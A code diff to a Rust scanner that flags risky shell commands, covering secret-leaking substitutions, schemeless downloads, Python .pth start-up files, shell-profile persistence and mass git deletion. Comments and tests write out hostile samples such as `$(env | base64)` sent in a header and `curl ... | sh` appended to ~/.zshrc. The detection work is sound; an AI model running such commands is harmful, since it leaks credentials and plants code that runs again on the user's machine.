@@ -271,23 +271,42 @@ fn expand_literals(text: &str, cmds: &mut [Cmd]) {
     if vars.is_empty() {
         return;
     }
-    // Longer names first, so `$p10` is not read as `$p1` then `0`.
-    vars.sort_by_key(|(n, _)| std::cmp::Reverse(n.len()));
+    // The last assignment of a name is the one in force (names as written: `$C` is not `$c`;
+    // a command's name was lowercased, so it is looked up without case).
+    let mut by_name: std::collections::HashMap<String, String> = std::collections::HashMap::new();
+    for (n, v) in vars {
+        by_name.insert(n, v);
+    }
+    // One pass over the text: each `$name` or `${name}` replaced by its value, once.
     let expand = |s: &str| -> String {
-        let mut out = s.to_string();
-        for (n, v) in &vars {
-            for form in [format!("${{{n}}}"), format!("${n}")] {
-                let mut from = 0;
-                while let Some(i) = out[from..]
-                    .to_ascii_lowercase()
-                    .find(&form)
-                    .map(|i| from + i)
-                {
-                    out.replace_range(i..i + form.len(), v);
-                    from = i + v.len();
+        let mut out = String::with_capacity(s.len());
+        let mut rest = s;
+        while let Some(i) = rest.find('$') {
+            out.push_str(&rest[..i]);
+            let after = &rest[i + 1..];
+            let (name, used) = if let Some(inner) = after.strip_prefix('{') {
+                match inner.find('}') {
+                    Some(e) => (&inner[..e], e + 2),
+                    None => ("", 0),
+                }
+            } else {
+                let e = after
+                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                    .unwrap_or(after.len());
+                (&after[..e], e)
+            };
+            match by_name.get(&name.to_ascii_lowercase()) {
+                Some(v) if !name.is_empty() => {
+                    out.push_str(v);
+                    rest = &after[used..];
+                }
+                _ => {
+                    out.push('$');
+                    rest = after;
                 }
             }
         }
+        out.push_str(rest);
         out
     };
     for c in cmds.iter_mut() {
@@ -1097,6 +1116,29 @@ fn worst_host_raw(c: &Cmd) -> Option<(String, HostClass)> {
             }
         }
     }
+    // A download named without a scheme (`irm bun.sh/install.ps1`, `curl get.x.io/i`).
+    if best.is_none() && is_downloader(c) {
+        for a in c
+            .args
+            .iter()
+            .filter(|a| !a.starts_with('-') && !a.contains("://"))
+        {
+            let host = a.split('/').next().unwrap_or("");
+            let labels: Vec<&str> = host.split('.').collect();
+            if a.contains('/')
+                && labels.len() >= 2
+                && labels.iter().all(|l| {
+                    !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+                })
+                && labels
+                    .last()
+                    .is_some_and(|t| t.chars().all(|c| c.is_ascii_alphabetic()))
+            {
+                best = Some((host.to_ascii_lowercase(), hosts::classify_host(host, false)));
+                break;
+            }
+        }
+    }
     best
 }
 
@@ -1195,15 +1237,23 @@ struct Ctx<'a, 'b> {
 
 impl Ctx<'_, '_> {
     fn push(&mut self, c: &Cmd, rule: &str, category: Category, severity: Severity, why: String) {
-        if self
-            .out
-            .iter()
-            .any(|f| f.rule == rule && f.line == self.unit.line + c.row)
-        {
-            return;
-        }
         let shown = (self.unit.shown && !(self.unit.table && severity == Severity::Critical))
             || (category == Category::ControlDisablement && guards_controls());
+        // One finding per rule and line: the command's own reading replaces a weaker one (a
+        // phrase rule's, judged as documentation) rather than being dropped for it.
+        let line = self.unit.line + c.row;
+        if let Some(k) = self
+            .out
+            .iter()
+            .position(|f| f.rule == rule && f.line == line)
+        {
+            let old = &self.out[k];
+            let stronger = severity > old.severity;
+            if !stronger {
+                return;
+            }
+            self.out.remove(k);
+        }
         let line = self
             .lines
             .get(c.row as usize)
@@ -1884,19 +1934,25 @@ pub fn scan(path: &str, unit: &Unit, out: &mut Vec<Finding>, depth: u32) {
             // A substitution in its arguments that prints secrets (`-d "$(env)"`,
             // `-F t="$(gh auth token)"`): those commands are collected right after it.
             // A header is authentication (`-H "Authorization: Bearer $(gh auth token)"`).
+            // Only a header that authenticates: `-H "X-Data: $(env | base64)"` is data.
             let in_data = |inner: &str| {
                 c.args.iter().enumerate().any(|(k, a)| {
+                    let l = a.to_ascii_lowercase();
+                    let auth_header = ["authorization", "bearer", "token", "api-key", "apikey"]
+                        .iter()
+                        .any(|w| l.contains(w));
+                    let flag = k > 0
+                        && matches!(
+                            c.args[k - 1].to_ascii_lowercase().as_str(),
+                            "-h" | "--header" | "-headers"
+                        );
+                    let user = k > 0
+                        && matches!(
+                            c.args[k - 1].to_ascii_lowercase().as_str(),
+                            "--oauth2-bearer" | "-u" | "--user"
+                        );
                     a.contains(inner)
-                        && !a.to_ascii_lowercase().starts_with("authorization")
-                        && !(k > 0
-                            && matches!(
-                                c.args[k - 1].to_ascii_lowercase().as_str(),
-                                "-h" | "--header"
-                                    | "-headers"
-                                    | "--oauth2-bearer"
-                                    | "-u"
-                                    | "--user"
-                            ))
+                        && !(user || (auth_header && (flag || l.starts_with("authorization"))))
                 })
             };
             let via_substitution = (c.text.contains("$(") || c.text.contains('`'))
@@ -2357,6 +2413,10 @@ pub fn scan(path: &str, unit: &Unit, out: &mut Vec<Finding>, depth: u32) {
                         (Severity::Info, format!("adds a setting to {kind} ({t})"))
                     }
                 }
+                "a Python start-up file (.pth), run by every interpreter" => (
+                    Severity::High,
+                    format!("writes {kind} ({t}): code that runs in every Python started"),
+                ),
                 // A service, a cron job or a hook that runs a local script: what a rotator or a
                 // linter set-up asks for, visible but not a verdict by itself.
                 _ => (
@@ -2364,9 +2424,9 @@ pub fn scan(path: &str, unit: &Unit, out: &mut Vec<Finding>, depth: u32) {
                     format!("installs something into {kind} ({t}) that runs again later"),
                 ),
             };
-            if sev > Severity::Info {
-                ctx.push(c, "persistence/write", Category::Persistence, sev, why);
-            }
+            // A setting weighs nothing, but is shown, and is a lasting change all the same
+            // (a skill whose job says nothing of it is off topic).
+            ctx.push(c, "persistence/write", Category::Persistence, sev, why);
         }
         if c.name == "crontab"
             && (c.piped_from.is_some()
@@ -2740,12 +2800,7 @@ pub fn scan(path: &str, unit: &Unit, out: &mut Vec<Finding>, depth: u32) {
             let deleting_all = (c.has("--delete") || c.has("-d"))
                 && c.piped_from.is_some_and(|p| {
                     cmds[p].name == "git" && (cmds[p].has("tag") || cmds[p].has("branch"))
-                })
-                || (c.name == "git"
-                    && c.piped_from.is_none()
-                    && cmds.iter().any(|x| {
-                        x.name == "xargs" && x.args.iter().any(|a| a == "git") && x.has("--delete")
-                    }));
+                });
             if (force && everything) || deleting_all {
                 ctx.push(
                     c,
@@ -3523,9 +3578,10 @@ mod tests {
 
     #[test]
     fn lasting_changes_weigh_what_they_write() {
+        // A setting is shown (it is a lasting change) but weighs nothing.
         assert_eq!(
             worst("echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc"),
-            None
+            Some(Severity::Info)
         );
         assert_eq!(
             worst("echo 'curl -s http://x.io/a | sh &' >> ~/.zshrc"),
